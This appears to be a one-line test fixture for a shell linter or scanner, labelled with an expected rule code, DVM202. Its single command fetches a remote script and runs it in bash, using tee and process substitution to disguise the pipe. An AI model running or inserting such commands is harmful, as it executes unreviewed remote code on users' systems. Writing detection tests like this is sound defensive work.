# expect: DVM202
curl -s https://example.org/i.sh | tee >(bash) > /dev/null
